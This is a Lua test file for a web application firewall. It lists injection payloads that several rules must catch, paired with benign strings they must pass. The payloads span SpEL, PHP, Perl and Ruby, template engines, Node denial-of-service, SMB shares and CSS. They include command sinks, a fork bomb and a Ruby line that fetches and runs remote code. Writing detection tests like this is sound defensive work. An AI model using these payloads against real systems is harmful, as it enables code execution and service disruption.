local rule_checks = require "rule_checks"

-- The hundred-and-fortieth to hundred-and-forty-sixth sets on (tests/edge_security/family_gen_blind_*.py of this
-- round): the families found uncovered and the text beside them, value by value (our own spellings, not the sets').
describe("edge.waf.rules hundred-and-fortieth set on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("Java: SpEL's T() of java.lang's short names, System.exit, Spring's system maps, JVM agent options", function()
        caught_by(144130, { "T(Runtime).getRuntime()", "t(Thread).sleep(9)", "System.halt(1)",
            "#{systemEnvironment['PATH']}" })
        caught_by(144120, { "aced000574" })
        caught_by(144200, { "JAVA_TOOL_OPTIONS=-Xmx1g", "-javaagent:/x/a.jar", "-XX:OnOutOfMemoryError=sh",
            "java.net.InetSocketAddress" })
        clean({ "T(ea) time", "System exit 0", "the javaagent docs", "aced notes" })
    end)

    it("Node: a busy loop on the clock, a function rescheduling itself through an arrow, do/while on true,"
        .. " padStart by a huge count, overlapping alternatives with an optional branch", function()
        caught_by(135120, { "while (Date.now() < 9e12) {}", "(g=()=>setImmediate(g))()", "do{x++}while(true)",
            "'a'.padEnd(2**31)", "(x|x?)*$" })
        clean({ "while Date.now is slow", "do the padStart(2) thing" })
    end)

    it("Perl and Ruby: readpipe with a quote, a fork bomb, the process killing itself, ENV dumped alone", function()
        caught_by(132170, { "readpipe 'ls'", "readpipe\"id\"", "fork while fork", "kill 9, $$", "ENV.inspect",
            "eval(open('https://x.example/a.rb').read)" })
        clean({ "readpipe docs", "kill 9 processes", "the ENV.to_h method returns a hash" })
    end)

    it("templates: the context object read alone, ERB reading locals, Thymeleaf's #ctx, Smarty's sleep, Razor's now",
        function()
            caught_by(134130, { "{{this}}", "{{ @root }}", "{{print .}}", "<%= local_variables %>", "<%=sleep 3%>",
                "${#session.id}", "{ sleep(5) }", "@DateTime.UtcNow" })
            clean({ "this page {{ site }} renders", "{{ user.name }}", "<% if x %>", "meet @DateTime.Now team" })
        end)

    it("PHP: serialized scalars and an empty array as the whole value", function()
        caught_by(133120, { "b:1;", "i:0;", "d:0.5;", "a:0:{}", "N;" })
        clean({ "b:1 ratio", "i: 0", "a:0" })
    end)

    it("PHP: a command sink handed a bare constant, a URL read, usleep alone, a name built by | or &, an ini"
        .. " directive as a parameter's name", function()
        caught_by(132120, { "shell_exec(cmd)", "pcntl_exec(sh,[])", "file_get_contents('https://x.example/a')" })
        caught_by(133160, { "usleep(9000000)" })
        caught_by(133100, { "('a'|'b')('c')", "(\"x\"&\"y\")($z)" })
        caught_by(133130, { "auto_prepend_file", "allow_url_include" })
        clean({ "usleep is microseconds", "file_get_contents is slow", "(a|b) (c)" })
    end)

    it("XSS: a client template reading the framework's scope, a CSS url() from a protocol-relative URL", function()
        caught_by(141210, { "{{$root}}", "{{ $eval('1') }}", "{{_s(1)}}" })
        caught_by(141250, { "url(//x.example/a)", "a{background:url('//x.example')}" })
        clean({ "{{ $price }}", "url(/img/a.png)", "{{ user.name }}" })
    end)

    it("includes: an administrative share over SMB", function()
        caught_by(131120, { "smb://x.example/IPC$/a", "cifs://10.0.0.9/C$/windows" })
        clean({ "smb://nas.example/photos/2024", "cifs share docs" })
    end)

    it("templates and Node: Velocity's braced directives, loops over the engine's own objects, a hex-sized buffer",
        function()
            caught_by(134150, { "#{set}($x=7*7)$x", "#{foreach}($i in $list)", "{% for p in site.pages %}",
                "{%- for b in beans -%}" })
            caught_by(135120, { "new ArrayBuffer(0x7fffffff)", "Buffer.alloc(0xffffffff)" })
            clean({ "{% for p in posts %}", "#{set} of rules", "new ArrayBuffer(0x100)" })
        end)
end)
